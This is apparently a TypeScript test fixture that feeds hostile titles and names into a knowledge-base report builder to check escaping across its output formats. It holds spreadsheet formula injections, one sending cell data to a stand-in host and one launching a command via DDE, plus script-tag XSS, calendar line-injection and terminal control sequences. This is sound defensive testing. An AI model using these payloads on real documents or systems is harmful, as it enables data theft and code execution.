// A base whose titles, owners and names try to act in every format that the report has.
import type { ArticleChange } from '../../src/history/read-changes.ts';
import { exampleArticle } from '../../src/lint/rule.ts';
import type { IsoDate } from '../../src/model/iso-date.ts';
import { buildReport } from '../../src/report/report.ts';
import { memoryBase } from '../support/memory-base.ts';

export const hostileTitles: readonly string[] = [
  '=HYPERLINK("https://evil.example/?"&A1;"Ouvrir")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\u00A0\u200B=1+1',
  '\uFF1D1+1',
  'Colis; =1+1',
  'a"; =HYPERLINK("https://evil.example")',
  'a | b || c \\| d',
  '`code` ``deux`` ```trois```',
  '<script>alert(1)</script>',
  '</script></style></title><img src=x onerror=alert(1)>',
  '[lien](https://evil.example) ![image](https://evil.example/x.png)',
  'https://evil.example www.evil.example <https://evil.example> a@evil.example',
  '@equipe #12 !34 GH-56 ~label %jalon',
  '--> <!-- fin -->',
  '# titre *gras* _italique_ ~~barré~~ &amp; :smile:',
  'BEGIN:VEVENT, END:VEVENT; \\n \\, \\;',
  'retour\r\nBEGIN:VEVENT\r\nUID:x\r\nEND:VEVENT',
  'controle \u0000\u0007\u001B[31m\u202Etxet\u2066 \u2028 fin',
  'demi \uD83D paire',
  '👩🏽‍💻'.repeat(60),
  'é'.repeat(5000),
];

/** Written as a YAML scalar: JSON escapes whatever needs to be. */
const yaml = (text: string) => JSON.stringify(text);

const files = Object.fromEntries(
  hostileTitles.map((title, index) => [
    `content/a${index}.md`,
    exampleArticle({
      id: `a${index}`,
      title: yaml(title),
      expires: index % 3 === 0 ? '9999-12-31' : '2026-06-01',
      owner: index % 5 === 0 ? yaml('=1+1 </script> | \u001B[31m') : 'livraison',
      validation: `{ by: ${yaml(title.slice(0, 60))}, on: 2026-01-01, digest: x }`,
    }),
  ]),
);

export const hostileBase = memoryBase({ ...files, 'content/illisible | `x`.md': 'Pas d’en-tête\n' });

const change: ArticleChange = {
  since: '2026-05-01' as IsoDate,
  by: '=1+1 @equipe </script>',
  lines: [
    { kind: 'gap', text: '' },
    { kind: 'removed', text: '````' },
    { kind: 'added', text: '`````` </pre></details><script>alert(1)</script> @equipe \u001B[31m' },
    { kind: 'same', text: '' },
  ],
};

export const hostileReport = buildReport(hostileBase, {
  today: '2026-06-15' as IsoDate,
  lastChanged: new Map(),
  volumes: new Map([['delivery.late', 340]]),
  changes: new Map(hostileBase.documents.map(({ path }) => [path, change])),
});

export const hostileOptions = {
  lang: 'fr',
  color: false,
  width: 80,
  labels: { ...hostileBase.config, name: '</title><b>Base</b>; a, b\r\nX:1 | `c` =1' },
} as const;
